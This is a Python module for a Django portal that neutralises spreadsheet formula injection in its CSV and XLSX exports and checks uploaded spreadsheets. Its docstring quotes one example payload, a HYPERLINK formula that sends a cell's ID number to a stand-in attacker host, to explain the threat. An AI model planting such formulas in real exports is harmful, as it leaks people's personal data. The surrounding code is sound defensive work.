"""Every CSV and XLSX file the portal writes goes through this module (formula injection).

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula (some also
after a leading tab, CR or NUL): a registered name such as
`=HYPERLINK("http://evil.example/?d="&C2,"Klik")` would send another person's NIK away when an
officer clicks it in an export. So, as OWASP and ASVS 1.2.10 recommend:

- CSV: a text cell starting with one of those characters gets a leading apostrophe
  (`'=HYPERLINK(…)`), which spreadsheet programs show as text and never evaluate;
- XLSX: every text cell is written as a string cell, never a formula; one starting with those
  characters also carries Excel's "quote prefix" (the hidden apostrophe Excel itself uses for
  text typed as `'=…`), so it shows unchanged and stays text when someone edits it.

Only text is touched. Numbers (a negative amount), dates and datetimes keep their type, so a
numeric column stays numeric and sums in the spreadsheet; text that merely looks like a number
(`"-1"` typed as a name) is text and is neutralised like any other.
"""

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable
from decimal import Decimal

from django.utils import timezone
from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = frozenset("=+-@\t\r\0")
# Written as they are: the spreadsheet stores them as numbers or dates, never as formulas.
# (bool is an int; datetime is a date.)
TYPED = (int, float, Decimal, dt.date, dt.time)
# Characters XML 1.0 cannot carry (openpyxl refuses them): shown as U+FFFD in XLSX.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    return text[:1] in FORMULA_TRIGGERS


def neutralise(text: str) -> str:
    """The text as a CSV cell: with a leading apostrophe when a spreadsheet would run it."""
    return "'" + text if text[:1] in FORMULA_TRIGGERS else text


def csv_cell(value):
    if value is None:
        return ""
    if type(value) is str:  # the common case first: exports are mostly text
        return neutralise(value)
    if isinstance(value, TYPED):
        return value
    return neutralise(str(value))


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


class CsvWriter:
    """`csv.writer` whose rows go through `csv_row`; `writerow` returns what the file's
    `write` returned (so it also works with an echoing file for streaming responses)."""

    def __init__(self, file, **fmtparams) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        self._writer.writerows(csv_row(row) for row in rows)


def csv_writer(file, **fmtparams) -> CsvWriter:
    return CsvWriter(file, **fmtparams)


def xlsx_cell(sheet, value):
    """A value for `sheet.append()` of a write-only openpyxl sheet: typed values as they are,
    text as a string cell (openpyxl would otherwise store a str starting with "=" as a
    formula), formula-like text with the quote prefix."""
    if value is None:
        return None
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        # XLSX has no time zones (openpyxl refuses aware datetimes): Jakarta's wall clock.
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, TYPED):
        return value
    text = _XML_ILLEGAL.sub("\ufffd", str(value))
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"
    if is_formula_like(text):
        cell.quotePrefix = True
    return cell


def xlsx_row(sheet, values: Iterable) -> list:
    return [xlsx_cell(sheet, value) for value in values]


# --- reading ---------------------------------------------------------------------------------
# Uploads (e.g. the mentors' monthly sheets) are read here too, so every file the portal takes
# in meets the same checks: the type its name claims, UTF-8 CSV, no NUL, no half file.


class SpreadsheetError(Exception):
    """The file as a whole cannot be read: nothing in it is used."""


def header_key(value) -> str:
    """A header cell as a column key: `Full name` and `full-name` are `full_name`."""
    return str(value or "").strip().lower().replace(" ", "_").replace("-", "_")


def read_cell(value) -> str:
    """A cell as the text the rules read: dates as ISO, whole floats (Excel's numbers) as integers."""
    if type(value) is str:  # every cell of a CSV
        return value.strip()
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()


def read_columns(file, filename: str, *, required: Iterable[str], max_rows: int | None = None):
    """The table as columns: (line numbers, {column: [text, …]}) for the `required` columns
    of each non-empty data row of a .csv (UTF-8, comma, semicolon or tab) or .xlsx file; line
    1 is the header, a short row's missing cells are "". Raises SpreadsheetError for a file of
    another type than its name says, one without the `required` columns, a CSV with a NUL
    byte, an unterminated quote or a last row cut short (a half-uploaded file), or more than
    `max_rows` data rows. Columns, not row dicts: the rules read a whole column at once."""
    from django.utils.translation import gettext as _

    name = str(filename).lower()
    required = tuple(required)
    if name.endswith(".xlsx"):
        rows = _read_xlsx_rows(file)
    elif name.endswith(".csv"):
        rows = _read_csv_rows(file)
    else:
        raise SpreadsheetError(_("Upload a .csv or .xlsx file."))
    try:
        line, header_cells = next(rows)
    except StopIteration:
        raise SpreadsheetError(_("The file is empty.")) from None
    header = [header_key(h) for h in header_cells]
    missing = [column for column in required if column not in header]
    if missing:
        raise SpreadsheetError(_("The file has no column(s) %(columns)s.") % {"columns": ", ".join(missing)})
    # A repeated header names its last column, as a dict of the row would.
    where = {column: len(header) - 1 - header[::-1].index(column) for column in required}
    width = max(where.values()) + 1
    lines: list[int] = []
    # Straight into the columns: no list per row is kept (thousands of them only feed the
    # garbage collector).
    columns: dict[str, list[str]] = {column: [] for column in required}
    appends = [(columns[column].append, index) for column, index in where.items()]
    for line, values in rows:
        cells = [v.strip() if type(v) is str else read_cell(v) for v in values]  # CSV cells: text
        if not any(cells):
            continue
        if len(cells) < width:
            cells.extend([""] * (width - len(cells)))
        lines.append(line)
        for append, index in appends:
            append(cells[index])
        if max_rows is not None and len(lines) > max_rows:
            raise SpreadsheetError(_("The file has more than %(n)s rows: split it.") % {"n": max_rows})
    return lines, columns


def _read_csv_rows(file):
    from django.utils.translation import gettext as _

    raw = file.read()
    if isinstance(raw, str):
        text = raw
    else:
        if raw[:2] == b"PK" or b"\0" in raw:
            raise SpreadsheetError(_("This is not a CSV text file (is it an XLSX with a .csv name?)."))
        try:
            text = raw.decode("utf-8-sig")
        except UnicodeDecodeError:
            raise SpreadsheetError(_("The CSV file is not UTF-8 text.")) from None
    if "\0" in text:
        raise SpreadsheetError(_("The CSV file contains NUL characters."))
    try:
        delimiter = csv.Sniffer().sniff(text[:4096], delimiters=",;\t").delimiter
    except csv.Error:
        delimiter = ","
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    width, last = None, None
    try:
        for values in reader:
            width = len(values) if width is None else width
            last = values
            yield reader.line_num, values
    except csv.Error as error:
        raise SpreadsheetError(_("The CSV file cannot be read: %(error)s") % {"error": error}) from None
    # A file cut off mid-upload: its last row has fewer cells than the header and no line end.
    if last is not None and len(last) < width and not text.endswith(("\n", "\r")):
        raise SpreadsheetError(_("The file ends in the middle of a row: it looks cut off. Upload it again."))


def _read_xlsx_rows(file):
    from django.utils.translation import gettext as _
    from openpyxl import load_workbook

    try:
        workbook = load_workbook(file, read_only=True, data_only=True)
    except Exception:  # noqa: BLE001 - openpyxl raises many types for a broken or cut-off file
        raise SpreadsheetError(_("The XLSX file cannot be read (is it complete, and really XLSX?).")) from None
    try:
        sheet = workbook.worksheets[0]
        try:
            yield from enumerate(sheet.iter_rows(values_only=True), start=1)
        except Exception:  # noqa: BLE001 - a damaged sheet inside a readable zip
            raise SpreadsheetError(_("The XLSX file cannot be read (is it complete, and really XLSX?).")) from None
    finally:
        workbook.close()
